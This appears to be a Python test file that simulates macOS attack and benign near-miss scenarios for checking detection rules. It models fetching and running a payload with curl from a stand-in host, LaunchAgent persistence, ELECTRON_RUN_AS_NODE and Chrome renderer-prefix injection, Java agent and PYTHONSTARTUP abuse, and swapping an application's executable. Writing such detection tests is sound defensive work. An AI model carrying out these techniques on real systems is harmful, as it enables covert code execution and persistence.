"""Programs: S15, S16, S18, S24, S25."""

from book import Book
from mac import AD_HOC, HARDENED, HOME, LAUNCHD, LINKED, SHELL, TEMP, Program, apple
from people import BASH, BROWSER, CHAT, CURL, HIDDEN, INSTALLD, MV, SH, UNZIP, dropped

BOOK = Book()


# --- S15

def payload(mac, path="/Users/Shared/.fontcache/fontsyncd"):
    """A script fetches a program into a hidden shared folder and runs it; the program makes memory executable and sets
    itself up to start again."""
    curl = mac.start(CURL, mac.start(BASH, SHELL, ["bash", "-c", "curl"]), ["curl", "-so", path, "https://cdn.example/a"])
    mac.begin()
    mac.write(curl, path)
    mac.exit(curl)
    mac.wait()
    program = dropped(path, born=mac.now, frameworks=("Foundation",))
    p = mac.start(program)
    mac.wait()
    mac.mprotect(p, 5)
    mac.end()
    item = HOME + "/Library/LaunchAgents/com.example.fontsync.plist"
    mac.write(p, item)
    mac.launch_item(BTM(mac), item, path)
    return path


def BTM(mac):
    """Who tells of launch items: not the one who wrote them."""
    return mac.start(apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
                           "com.apple.backgroundtaskmanagementd"), LAUNCHD, uid=0)


def payload_with_port(mac):
    """A script fetches a program into a hidden shared folder and runs it; it takes the control port of the browser."""
    path = "/Users/Shared/.fontcache/fontsyncd"
    curl = mac.start(CURL, mac.start(BASH, SHELL, ["bash", "-c", "curl"]), ["curl", "-so", path, "https://cdn.example/a"])
    browser = mac.start(BROWSER, LAUNCHD)
    mac.begin()
    mac.write(curl, path)
    mac.wait()
    p = mac.start(dropped(path, born=mac.now))
    mac.wait()
    mac.task(p, browser)
    mac.end()
    return path


def payload_unwritten(mac):
    """A program in a hidden shared folder, new on this Mac, takes the control port of the browser. Who wrote it is not seen."""
    browser = mac.start(BROWSER, LAUNCHD)
    mac.begin()
    p = mac.start(dropped("/Users/Shared/.fontcache/fontsyncd"))
    mac.wait()
    mac.task(p, browser)
    mac.end()
    return "/Users/Shared/.fontcache/fontsyncd"


BOOK.attack("S15", "payload", "Fetched program makes memory executable and comes back", payload, span=600,
            weak=["S15", "S15-weak"], weak_act=payload_unwritten, weak_images=True, weak_note="",
            allow=["S24", "S03", "S15-persist", "S15-weak", "S21"])
BOOK.attack("S15", "payload", "Fetched program takes the browser's port", payload_with_port, name="port", span=600, other="elastic",
            allow=["S24", "S15-weak", "S21"])
BOOK.attack("S15", "payload", "Fetched program takes the browser's port", payload_with_port, name="jamf", other="jamf",
            other_expect=["S15", "S15-weak"], other_note="Jamf shows no files.", variants=["other_sensor"], allow=["S24", "S21"])


def payload_renamed(mac):
    """A browser downloads a program; a script moves it to a hidden place, takes the mark of the download away and starts it. It makes
    itself start again."""
    browser = mac.start(BROWSER, LAUNCHD)
    mac.write(browser, HOME + "/Downloads/note.pdf.download")
    script = mac.start(BASH, SHELL, ["bash", "/tmp/i.sh"])
    path = HOME + "/.config/fontd/fontd"
    mac.begin()
    mac.rename(mac.start(MV, script), HOME + "/Downloads/note.pdf.download", path)
    mac.exit(mac.start(apple("/usr/bin/xattr", "com.apple.xattr"), script, ["xattr", "-c", path]))
    mac.wait()
    p = mac.start(dropped(path, "fontd", born=mac.now), script)
    item = HOME + "/Library/LaunchAgents/com.example.fontd.plist"
    mac.write(p, item)
    mac.wait()
    mac.launch_item(BTM(mac), item, path)
    mac.end()
    return path


BOOK.attack("S15", "payload", "Renamed download comes back", payload_renamed, name="persistence", span=600, other="mac-monitor",
            expect=["S15", "S15-persist"], allow=["S24", "S15-weak"], variants=["plain", "order_noise", "delays", "other_sensor"])


def payload_connects(mac):
    """A script fetches a program into a temporary folder and runs it; it calls home."""
    path = "/private/tmp/.xsvc"
    curl = mac.start(CURL, mac.start(BASH, SHELL, ["bash", "-c", "curl"]), ["curl", "-so", path, "https://cdn.example/x"])
    mac.begin()
    mac.write(curl, path)
    mac.wait()
    p = mac.start(dropped(path, "xsvc", born=mac.now))
    mac.wait()
    mac.connect(p, "198.51.100.23", 443)
    mac.end()
    return path


BOOK.attack("S15-connect", "payload", "Fetched program calls home", payload_connects, sensor="elastic", span=600, allow=["S24"],
            variants=["plain", "delays", "other_sensor"], other="ocsf")


def fetched_and_idle(mac):
    """A user fetches a tool without a team into Downloads, runs it, and it looks for a newer version."""
    path = HOME + "/Downloads/tool"
    curl = mac.start(CURL, SHELL, ["curl", "-o", path, "https://tools.example/tool"])
    mac.write(curl, path)
    mac.wait()
    p = mac.start(Program(path, "tool", AD_HOC, born=mac.now))
    mac.wait()
    mac.connect(p, "192.0.2.80", 443)


BOOK.near_miss("S15-connect", "downloads", "Tool in Downloads looks for a newer version", fetched_and_idle, sensor="elastic")


def installed_helper(mac):
    """Apple's installer runs a vendor's script, which starts a helper without a team out of the package's temporary folder.
    It makes memory executable."""
    path = "/private/tmp/PKInstallSandbox.T1kQ2x/Scripts/com.example.driver.pkg.8sQe2C/probe"
    mac.write(INSTALLD, path)
    script = mac.start(BASH, INSTALLD, ["bash", "postinstall"])
    mac.wait()
    p = mac.start(Program(path, "probe", AD_HOC, born=mac.now), script)
    mac.wait()
    mac.exit(p)


def fetched_and_signed(mac):
    """A user fetches a signed tool into Downloads and runs it; it makes memory executable, as it declares."""
    path = HOME + "/Downloads/render-1.2/render"
    unzip = mac.start(UNZIP, SHELL, ["unzip", "render-1.2.zip"])
    mac.write(unzip, path)
    mac.wait()
    p = mac.start(Program(path, "com.example.render", HARDENED, "REND3RT00L", born=-60.0, jit="yes"))
    mac.wait()
    mac.mprotect(p, 5)


def run_and_nothing(mac):
    """A user compiles a program by hand in a temporary folder and runs it. It prints and ends."""
    path = "/private/tmp/hello"
    ld = mac.start(apple("/Library/Developer/CommandLineTools/usr/bin/ld", "com.apple.ld"))
    mac.write(ld, path)
    mac.wait()
    p = mac.start(Program(path, "hello", LINKED, born=mac.now))
    mac.wait()
    mac.exit(p)


BOOK.near_miss("S15", "installer", "Package's script starts a helper", installed_helper)
BOOK.near_miss("S15", "signed", "Signed tool in Downloads", fetched_and_signed)
BOOK.near_miss("S15", "nothing-follows", "Own program in a temporary folder ends", run_and_nothing)


def payload_at_home(mac):
    """A fetched program lies in the user's home, where none of the odd places is, and comes back with a launch agent."""
    path = HOME + "/bin/sync-helper"
    curl = mac.start(CURL, SHELL)
    mac.write(curl, path)
    mac.begin()
    p = mac.start(dropped(path, born=None))
    mac.wait()
    mac.launch_item(p, HOME + "/Library/LaunchAgents/com.example.sync-helper.plist", path)
    mac.end()
    return path


BOOK.attack("S15", "payload", "Fetched program in a home makes itself start again", payload_at_home, expect=["S15-weak"], name="at-home",
            variants=["plain"])


# --- S16

def electron_as_node(mac):
    """A script starts a chat program with ELECTRON_RUN_AS_NODE, so that it runs the script's JavaScript under the chat program's
    name and privileges, and that starts a shell."""
    script = mac.start(BASH, SHELL, ["bash", "/tmp/u.sh"])
    mac.begin()
    p = mac.start(CHAT, script, [CHAT.path, "-e", "require('child_process').exec('id')"], env=["ELECTRON_RUN_AS_NODE=1"])
    mac.wait()
    mac.start(SH, p, ["sh", "-c", "id"])
    mac.end()
    return CHAT.path


def chrome_prefix(mac):
    """A browser is started with a prefix for its renderers, which makes it start a program in a temporary folder."""
    mac.begin()
    p = mac.start(BROWSER, mac.start(BASH, SHELL), [BROWSER.path, "--no-sandbox", "--renderer-cmd-prefix=/private/tmp/.r"])
    mac.wait()
    mac.start(dropped("/private/tmp/.r", "r"), p, ["/private/tmp/.r", BROWSER.path, "--type=renderer"])
    mac.end()
    return BROWSER.path


BOOK.attack("S16", "runtime made to run code", "Chat program run as node, then a shell", electron_as_node, span=60, other="santa",
            variants=["plain", "order_noise", "delays", "other_sensor"])
BOOK.attack("S16", "runtime made to run code", "Chat program run as node, then a shell", electron_as_node, name="elastic",
            other="elastic", variants=["other_sensor"])
BOOK.attack("S16-payload", "runtime made to run code", "Browser starts its renderers through a hidden program", chrome_prefix, span=60,
            other="jamf", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S24"])


def own_helpers(mac):
    """A chat program starts its own renderers, as ever; one of them asks the user's shell for the environment."""
    p = mac.start(CHAT, LAUNCHD)
    helper = Program("/Applications/Murmel.app/Contents/Frameworks/Murmel Helper (Renderer).app/Contents/MacOS/Murmel Helper (Renderer)",
                     "com.example.murmel.helper.Renderer", HARDENED, CHAT.team, jit="yes")
    mac.wait()
    mac.start(helper, p, [helper.path, "--type=renderer"])
    mac.start(SH, p, ["sh", "-ilc", "env"])


def java_agent(mac):
    """A vendor's Java is started with a variable that has it load an agent out of a temporary folder; the agent starts a program beside
    it."""
    java = Program("/Library/Java/JavaVirtualMachines/corvid-21.jdk/Contents/Home/bin/java", "com.example.corvid.java", HARDENED, "C0RV1DJDK2",
                   jit="yes")
    mac.begin()
    p = mac.start(java, mac.start(BASH, SHELL, ["bash", "/tmp/j.sh"]), ["java", "-version"], env=["JAVA_TOOL_OPTIONS=-javaagent:/tmp/.a.jar"])
    mac.wait()
    mac.start(dropped("/private/tmp/.a", "a"), p)
    mac.end()
    return java.path


BOOK.attack("S16-payload", "runtime made to run code", "Java loads an agent that starts a program", java_agent, span=60, name="java",
            other="santa", variants=["plain", "order_noise", "delays", "other_sensor"], allow=["S24"])


def python_startup(mac):
    """Python of a project, signed by a team, is started with a variable that has it read a file of somebody's first, and that starts a tool
    without a team."""
    python = Program("/Library/Frameworks/Python.framework/Versions/3.13/Resources/Python.app/Contents/MacOS/Python", "org.python.python",
                     HARDENED, "PYTH0NEXMP")
    mac.begin()
    p = mac.start(python, mac.start(BASH, SHELL), ["python3"], env=["PYTHONSTARTUP=" + HOME + "/Library/Caches/p.py"])
    mac.wait()
    mac.start(Program("/opt/tools/relay", "relay", AD_HOC), p)
    mac.end()
    return python.path


BOOK.attack("S16-env", "runtime made to run code", "Python reads a file of somebody's first", python_startup, span=60, other="santa",
            variants=["plain", "order_noise", "delays", "other_sensor"])


def debug_of_own_build(mac):
    """A browser that a developer started with a debugging port starts a program that he built last year, and the browser's own
    renderers."""
    p = mac.start(BROWSER, SHELL, [BROWSER.path, "--remote-debugging-port=9222"])
    mac.wait()
    mac.start(Program("/Applications/Lanterna.app/Contents/Frameworks/Lanterna Helper.app/Contents/MacOS/Lanterna Helper",
                      "com.example.lanterna.helper", HARDENED, BROWSER.team, jit="yes"), p)


BOOK.near_miss("S16-payload", "own-renderers", "Browser with a debugging port", debug_of_own_build)


def by_its_own_team(mac):
    """A chat program starts its own command line as node to install an extension."""
    p = mac.start(CHAT, LAUNCHD)
    q = mac.start(CHAT, p, [CHAT.path, "cli.js", "--install-extension", "x"], env=["ELECTRON_RUN_AS_NODE=1"])
    mac.wait()
    mac.start(SH, q, ["sh", "-c", "xattr -l x"])


BOOK.near_miss("S16", "no-variable", "Chat program starts its helpers and a shell", own_helpers)
BOOK.near_miss("S16", "own-team", "Chat program runs itself as node", by_its_own_team)


# --- S18

MAIN = CHAT.path
DIRECTORY = MAIN.rpartition("/")[0]


def swapped(mac):
    """A dropper puts a stand-in in the place of a chat program's executable and starts it; the stand-in starts the real one, and
    the dropper puts everything back."""
    dropper = mac.start(dropped("/Users/Shared/.cache/hload", "hload", born=-5 * 86400.0))
    real = mac.start(CHAT, LAUNCHD)
    mac.exit(real)
    mac.begin()
    mac.rename(dropper, MAIN, DIRECTORY + "/.lock")
    mac.rename(dropper, "/Users/Shared/.cache/h2", MAIN)
    mac.wait()
    p = mac.start(Program(MAIN, "HLOADER-55554944", AD_HOC, born=-60.0, build="stand-in"), LAUNCHD)
    mac.wait()
    mac.rename(dropper, MAIN, DIRECTORY + "/.log")
    mac.rename(dropper, DIRECTORY + "/.lock", MAIN)
    mac.end()
    mac.start(CHAT, p)
    return MAIN


def swapped_by_itself(mac):
    """A stand-in lies where a chat program's executable was. When the user starts it, it swaps itself out and the real one in,
    and starts that."""
    real = mac.start(CHAT, LAUNCHD)
    mac.wait(1)
    mac.exit(real)
    mac.wait(2)
    mac.begin()
    p = mac.start(Program(MAIN, "HLOADER-55554944", AD_HOC, born=-60.0, build="stand-in"), LAUNCHD)
    mac.wait()
    mac.rename(p, MAIN, DIRECTORY + "/.log")
    mac.wait()
    mac.rename(p, DIRECTORY + "/.lock", MAIN)
    mac.end()
    mac.start(CHAT, p)
    return MAIN


BOOK.attack("S18", "application tampered with", "Chat program's executable swapped and put back", swapped, span=300, other="santa",
            allow=["S18-weak", "S11-weak", "S11-exec", "S24"], variants=["plain", "order_noise", "delays", "other_sensor"])
BOOK.attack("S18", "application tampered with", "Chat program's executable swapped and put back", swapped, name="mac-monitor",
            other="mac-monitor", allow=["S18-weak", "S11-weak", "S11-exec", "S24"], variants=["other_sensor"])
BOOK.attack("S18-self", "application tampered with", "Stand-in swaps itself out", swapped_by_itself, span=300, other="santa",
            allow=["S11-exec"], variants=["plain", "order_noise", "delays", "other_sensor"])


def swapped_by_itself_unmet(mac):
    """A stand-in lies where a chat program's executable was, which nobody has seen started before. It swaps itself out and the real one
    in."""
    mac.begin()
    p = mac.start(Program(MAIN, "HLOADER-55554944", AD_HOC, born=-60.0, build="stand-in"), LAUNCHD)
    mac.wait()
    mac.rename(p, MAIN, DIRECTORY + "/.log")
    mac.wait()
    mac.rename(p, DIRECTORY + "/.lock", MAIN)
    mac.end()
    mac.start(CHAT, p)
    return MAIN


BOOK.attack("S18-self", "application tampered with", "Stand-in swaps itself out", swapped_by_itself_unmet, variants=["weak"], name="unmet",
            weak=["S18-self", "S18-self-weak"], weak_note="", weak_images=True)


def swapped_once(mac):
    """A dropper puts an ad-hoc stand-in in the place of a chat program's executable; it is run, and stays."""
    dropper = mac.start(dropped("/opt/tools/hload", "hload", born=-5 * 86400.0))
    real = mac.start(CHAT, LAUNCHD)
    mac.exit(real)
    mac.begin()
    mac.rename(dropper, MAIN, DIRECTORY + "/.lock")
    mac.rename(dropper, "/opt/tools/h2", MAIN)
    mac.wait()
    mac.start(Program(MAIN, "HLOADER-55554944", AD_HOC, born=-60.0, build="stand-in"), LAUNCHD)
    mac.end()
    return MAIN


BOOK.attack("S18", "application tampered with", "Chat program's executable swapped", swapped_once, variants=["weak"], name="once",
            weak=["S18", "S18-weak"], weak_note="It is not put back.", weak_images=True, allow=["S11-weak", "S11-exec"])


def updated_by_rename(mac):
    """An updater of the same team renames the executable away, the new one in, and starts it; it is as signed as before."""
    updater = Program("/Applications/Murmel.app/Contents/Frameworks/Squirrel.framework/Resources/ShipIt", "ShipIt", HARDENED, CHAT.team)
    mac.exit(mac.start(CHAT, LAUNCHD))
    u = mac.start(updater, LAUNCHD)
    mac.rename(u, MAIN, TEMP + "/Murmel.old")
    mac.rename(u, TEMP + "/Murmel.new", MAIN)
    mac.wait()
    mac.start(Program(MAIN, "com.example.murmel", HARDENED, CHAT.team, born=-60.0, jit="yes", build="3"), u)


def relinked(mac):
    """A developer without a team links his application anew, renames the old one away and back, and starts it, below make."""
    make = mac.start(apple("/Library/Developer/CommandLineTools/usr/bin/make", "com.apple.make"))
    path = HOME + "/src/kite/build/Kite.app/Contents/MacOS/Kite"
    mv = mac.start(MV, make)
    mac.rename(mv, path, path + ".old")
    mac.write(mac.start(apple("/Library/Developer/CommandLineTools/usr/bin/ld", "com.apple.ld"), make), path)
    mac.wait()
    mac.start(Program(path, "Kite", LINKED, born=-5.0), make)
    mac.rename(mv, path + ".old", path)


BOOK.near_miss("S18", "updater", "Updater of the same team swaps executables", updated_by_rename)
BOOK.near_miss("S18", "own-build", "Own build renamed below make", relinked)


def own_updater_of_its_own(mac):
    """An ad-hoc application of a developer without a team, whose updater is part of it, renames itself away and the new one in. It
    never had another signer, and the old one is not put back."""
    path = HOME + "/Applications/Kite.app/Contents/MacOS/Kite"
    p = mac.start(Program(path, "Kite", AD_HOC), LAUNCHD)
    mac.rename(p, path, TEMP + "/Kite.old")
    mac.wait()
    mac.exit(p)


BOOK.near_miss("S18-self", "not-put-back", "Application without a team moves itself aside", own_updater_of_its_own)


# --- S24, S25

def hidden_program(mac):
    """A program without a team is run for the first time out of a hidden shared folder."""
    mac.begin()
    mac.start(HIDDEN)
    mac.end()
    return HIDDEN.path


def known_hidden(mac):
    """A tool of the user's own is run twice out of a hidden folder, where it lies since months."""
    tool = Program(HOME + "/.local/bin/jqx", "jqx", AD_HOC)
    mac.exit(mac.start(tool))
    mac.wait()
    mac.exit(mac.start(tool))


BOOK.attack("S24", "payload", "Program run from a hidden folder", hidden_program, other="santa", weak=["S24"],
            variants=["plain", "order_noise", "other_sensor"])
BOOK.attack("S24", "payload", "Program run from a hidden folder", hidden_program, other="jamf", name="jamf", variants=["other_sensor"])
BOOK.near_miss("S24", "old-tool", "User's own tool in a hidden folder", known_hidden)


def alert_then_port(mac):
    """A sensor raises an alert on a program, which goes on all the same and takes the browser's control port."""
    browser = mac.start(BROWSER, LAUNCHD)
    p = mac.start(HIDDEN)
    mac.begin()
    mac.note("alert", p, name="Suspicious download", code="behavior")
    mac.wait()
    mac.task(p, browser)
    mac.end()
    return HIDDEN.path


def alert_of_injection(mac):
    """A sensor raises an alert whose name speaks of injection; what it saw, it does not say."""
    p = mac.start(HIDDEN)
    mac.begin()
    mac.note("alert", p, name="Shellcode Injection", code="behavior")
    mac.end()
    return HIDDEN.path


def alert_and_nothing(mac):
    """A sensor raises an alert on a program that is then ended."""
    p = mac.start(Program("/opt/tools/scan", "scan", AD_HOC))
    mac.note("alert", p, name="Suspicious download", code="behavior")
    mac.wait()
    mac.exit(p, signal=9)


BOOK.attack("S25", "sensor's alert", "Alert, then a control port", alert_then_port, sensor="elastic", span=600,
            variants=["plain", "delays"], allow=["S24", "S21", "S15-weak"])
BOOK.attack("S25-name", "sensor's alert", "Alert that speaks of injection", alert_of_injection, sensor="elastic", variants=["plain"],
            allow=["S24"])
def alert_of_adware(mac):
    """A sensor raises an alert about adware on a program in Downloads."""
    p = mac.start(Program(HOME + "/Downloads/Coupons.app/Contents/MacOS/Coupons", "Coupons", AD_HOC))
    mac.note("alert", p, name="Adware: coupon helper", code="malicious_file")


BOOK.near_miss("S25-name", "adware", "Alert about adware", alert_of_adware, sensor="elastic")
BOOK.near_miss("S25", "nothing-follows", "Alert, and nothing follows", alert_and_nothing, sensor="elastic")
